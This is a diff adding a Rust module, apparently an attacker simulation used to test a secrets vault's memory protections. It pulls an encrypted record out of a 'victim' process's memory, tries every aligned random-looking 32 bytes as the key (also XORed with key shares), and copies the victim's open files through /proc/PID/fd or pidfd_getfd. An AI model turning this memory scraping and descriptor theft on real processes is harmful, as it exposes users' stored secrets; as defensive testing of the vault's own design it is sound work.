@@ -1,0 +1,291 @@
+//! What a thief does with what he has: tries everything that could be the vault's key on a sealed record.
+//!
+//! Where things lie is no secret (ARCHITECTURE.md): a record is `[nonce 32][tag 16][ciphertext]`, its associated
+//! data names vault, secret and version, and with the hold Split the key is the exclusive-or of 32 bytes in an
+//! in-memory file and 32 bytes in memory. The thief is told where the record lies; he only has to find the key.
+
+use std::fs::File;
+use std::io;
+use std::os::fd::AsFd;
+use std::os::unix::fs::{FileExt, OpenOptionsExt};
+
+use chacha20poly1305::{AeadInOut, KeyInit, XChaCha20Poly1305};
+use rustix::fs::{FileType, fstat};
+use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
+use serde::{Deserialize, Serialize};
+
+use super::memory::{Mapping, Sight, Walk, walk};
+use super::verdict::Trouble;
+
+/// Bytes of a key and of each of its shares.
+pub const KEY: usize = 32;
+const NONCE: usize = 32;
+const TAG: usize = 16;
+
+/// Where a record lies and what it is bound to, as `Secret::status` tells.
+#[derive(Clone, Copy, Debug, Serialize, Deserialize)]
+pub struct RecordAt {
+    /// First byte in the victim's memory.
+    pub address: usize,
+    /// 1: AEGIS-256, 2: XChaCha20-Poly1305.
+    pub cipher: u32,
+    /// The vault.
+    pub vault: u64,
+    /// The secret.
+    pub id: u64,
+    /// How often it was changed.
+    pub version: u64,
+    /// Bytes of the secret.
+    pub len: usize,
+}
+
+/// A record, taken out of the victim's memory.
+pub struct Record {
+    cipher: u32,
+    nonce: [u8; NONCE],
+    tag: [u8; TAG],
+    ciphertext: Vec<u8>,
+    bound: Vec<u8>,
+}
+
+impl Record {
+    /// Takes it.
+    pub fn take(sight: &Sight, at: &RecordAt) -> io::Result<Self> {
+        let bytes = sight.bytes(at.address, NONCE + TAG + at.len)?;
+        let short = || io::Error::from(io::ErrorKind::UnexpectedEof);
+        let (nonce, rest) = bytes.split_first_chunk().ok_or_else(short)?;
+        let (tag, ciphertext) = rest.split_first_chunk().ok_or_else(short)?;
+        let epoch = 0;
+        let numbers = [at.vault, at.id, at.version, epoch, at.len as u64];
+        let mut bound = b"smv1".to_vec();
+        bound.extend(at.cipher.to_le_bytes());
+        bound.extend(numbers.iter().flat_map(|number| number.to_le_bytes()));
+        Ok(Self { cipher: at.cipher, nonce: *nonce, tag: *tag, ciphertext: ciphertext.to_vec(), bound })
+    }
+
+    /// The plaintext, if this is the key.
+    pub fn open(&self, key: &[u8; KEY]) -> Option<Vec<u8>> {
+        let mut bytes = self.ciphertext.clone();
+        if self.cipher == 1 {
+            let cipher = aegis::aegis256::Aegis256::<TAG>::new(key, &self.nonce);
+            cipher.decrypt_in_place(&mut bytes, &self.tag, &self.bound).ok()?;
+        } else {
+            let nonce = self.nonce.first_chunk::<24>()?;
+            let cipher = XChaCha20Poly1305::new(key.into());
+            let place = bytes.as_mut_slice().into();
+            cipher.decrypt_inout_detached(nonce.into(), &self.bound, place, (&self.tag).into()).ok()?;
+        }
+        Some(bytes)
+    }
+}
+
+/// A key that opens the record, and where it was.
+#[derive(Clone, Copy)]
+pub struct Found {
+    /// The vault's key.
+    pub key: [u8; KEY],
+    /// Where it, or the share of it that lies in memory, was found.
+    pub address: usize,
+    /// Was it put together from a share in memory and one in a file?
+    pub combined: bool,
+}
+
+/// A search for the key.
+pub struct Crack<'a> {
+    record: &'a Record,
+    shares: &'a [[u8; KEY]],
+    step: usize,
+    /// Sets of 32 bytes that were tried, each alone and with every share.
+    pub tried: usize,
+    /// What was found.
+    pub found: Option<Found>,
+}
+
+impl<'a> Crack<'a> {
+    /// Prepares to try every `step` bytes; `shares` come from files.
+    pub fn new(record: &'a Record, shares: &'a [[u8; KEY]], step: usize) -> Self {
+        Self { record, shares, step, tried: 0, found: None }
+    }
+
+    /// Tries all of these bytes.
+    pub fn look(&mut self, address: usize, bytes: &[u8]) {
+        let start = address.next_multiple_of(self.step) - address;
+        let windows = bytes.get(start..).unwrap_or_default().windows(KEY).step_by(self.step);
+        for (place, window) in (address + start..).step_by(self.step).zip(windows) {
+            let Some(candidate) = window.first_chunk::<KEY>().filter(|candidate| looks_random(candidate))
+            else {
+                continue;
+            };
+            if self.found.is_some() {
+                return;
+            }
+            self.tried += 1;
+            self.attempt(*candidate, place, false);
+            for share in self.shares {
+                let mut key = *candidate;
+                key.iter_mut().zip(share).for_each(|(byte, share)| *byte ^= share);
+                self.attempt(key, place, true);
+            }
+        }
+    }
+
+    fn attempt(&mut self, key: [u8; KEY], address: usize, combined: bool) {
+        if self.found.is_none() && self.record.open(&key).is_some() {
+            self.found = Some(Found { key, address, combined });
+        }
+    }
+}
+
+/// Keys and shares of keys look random; text, code, pointers and zeros do not. Of 32 random bytes at least 16
+/// differ, but for one time in 10^12.
+fn looks_random(bytes: &[u8; KEY]) -> bool {
+    let mut seen = [0_u64; 4];
+    for byte in bytes {
+        seen[usize::from(byte >> 6)] |= 1 << (byte & 63);
+    }
+    seen.iter().map(|word| word.count_ones()).sum::<u32>() >= 16
+}
+
+/// Searches what the process can have written for the key.
+pub fn search(
+    sight: &Sight,
+    mappings: &[Mapping],
+    record: &Record,
+    shares: &[[u8; KEY]],
+) -> (Option<Found>, usize, Walk) {
+    let own: Vec<Mapping> = mappings.iter().filter(|mapping| mapping.own()).cloned().collect();
+    // Keys and shares are at least 16-byte aligned.
+    let mut crack = Crack::new(record, shares, 16);
+    let walk = walk(sight, &own, |address, bytes| crack.look(address, bytes));
+    (crack.found, crack.tried, walk)
+}
+
+/// Descriptors of a process, and what could be read through them.
+#[derive(Default)]
+pub struct Loot {
+    /// Every 32 bytes at the beginnings of files that could be shares.
+    pub shares: Vec<[u8; KEY]>,
+    /// All that was read.
+    pub bytes: Vec<u8>,
+    /// Descriptors that there are.
+    pub descriptors: usize,
+    /// Files that were read.
+    pub read: usize,
+    /// Files that could not be opened.
+    pub refused: usize,
+}
+
+/// How to get at another process's files.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub enum Through {
+    /// Open them anew by name, as any file-read bug does: the file's mode is asked.
+    Name,
+    /// Take a duplicate of the descriptor, as a debugger does: nothing is asked.
+    Duplicate,
+}
+
+/// Reads every file that the process has open.
+pub fn loot(pid: u32, through: Through) -> Result<Loot, Trouble> {
+    let mut loot = Loot::default();
+    let entries = std::fs::read_dir(format!("/proc/{pid}/fd")).map_err(Trouble::forbidden("/proc/PID/fd"))?;
+    for entry in entries {
+        let entry = entry?;
+        loot.descriptors += 1;
+        // Only plain files, in-memory ones among them: reading a pipe would take what is not ours.
+        if !entry.path().metadata().is_ok_and(|metadata| metadata.is_file()) {
+            continue;
+        }
+        let number = entry
+            .file_name()
+            .to_string_lossy()
+            .parse()
+            .map_err(|_| Trouble::failed("a strange descriptor"))?;
+        let file = match through {
+            Through::Name => File::options().read(true).custom_flags(libc::O_NONBLOCK).open(entry.path()),
+            Through::Duplicate => duplicate(pid, number),
+        };
+        let Ok(file) = file else {
+            loot.refused += 1;
+            continue;
+        };
+        let mut bytes = vec![0; 64 * 1024];
+        let Ok(read) = file.read_at(&mut bytes, 0) else {
+            loot.refused += 1;
+            continue;
+        };
+        bytes.truncate(read);
+        loot.read += 1;
+        loot.shares.extend(bytes.first_chunk::<KEY>());
+        loot.bytes.extend(bytes);
+    }
+    Ok(loot)
+}
+
+fn duplicate(pid: u32, number: i32) -> io::Result<File> {
+    let no_process = || io::Error::from(io::ErrorKind::NotFound);
+    let pid = i32::try_from(pid).ok().and_then(Pid::from_raw).ok_or_else(no_process)?;
+    let process = pidfd_open(pid, PidfdFlags::empty())?;
+    let descriptor = pidfd_getfd(process, number, PidfdGetfdFlags::empty())?;
+    let stat = fstat(descriptor.as_fd())?;
+    if FileType::from_raw_mode(stat.st_mode) != FileType::RegularFile {
+        return Err(io::ErrorKind::Unsupported.into());
+    }
+    Ok(descriptor.into())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sealed(cipher: u32, key: [u8; KEY]) -> (Record, Vec<u8>) {
+        let plain = b"what is kept".to_vec();
+        let mut record = Record {
+            cipher,
+            nonce: [7; NONCE],
+            tag: [0; TAG],
+            ciphertext: plain.clone(),
+            bound: b"bound".to_vec(),
+        };
+        record.tag = if cipher == 1 {
+            let sealer = aegis::aegis256::Aegis256::<TAG>::new(&key, &record.nonce);
+            sealer.encrypt_in_place(&mut record.ciphertext, &record.bound)
+        } else {
+            let sealer = XChaCha20Poly1305::new(&key.into());
+            let nonce = record.nonce.first_chunk::<24>().unwrap();
+            let place = record.ciphertext.as_mut_slice().into();
+            sealer.encrypt_inout_detached(nonce.into(), &record.bound, place).unwrap().into()
+        };
+        (record, plain)
+    }
+
+    #[test]
+    fn finds_a_key_alone_and_with_a_share() {
+        let key: [u8; KEY] = std::array::from_fn(|n| (n * 7 + 3) as u8);
+        let share: [u8; KEY] = std::array::from_fn(|n| (n * 91 + 40) as u8);
+        let mut other = key;
+        other.iter_mut().zip(share).for_each(|(byte, share)| *byte ^= share);
+        for cipher in [1, 2] {
+            let (record, plain) = sealed(cipher, key);
+            for (hidden, combined) in [(key, false), (other, true)] {
+                let mut memory = vec![0; 200];
+                memory[68..100].copy_from_slice(&hidden);
+                let shares = [[9; KEY], share];
+                let mut crack = Crack::new(&record, &shares, 4);
+                crack.look(0x1000, &memory);
+                let found = crack.found.unwrap();
+                assert_eq!((found.address, found.combined), (0x1000 + 68, combined));
+                assert_eq!(record.open(&found.key).unwrap(), plain);
+                let mut misaligned = Crack::new(&record, &shares, 8);
+                misaligned.look(0x1000, &memory);
+                assert!(misaligned.found.is_none());
+            }
+        }
+    }
+
+    #[test]
+    fn text_and_pointers_do_not_look_random() {
+        assert!(!looks_random(b"this is only text, text and text"));
+        assert!(!looks_random(&[0; KEY]));
+        assert!(looks_random(&std::array::from_fn(|n| (n * 7) as u8)));
+    }
+}
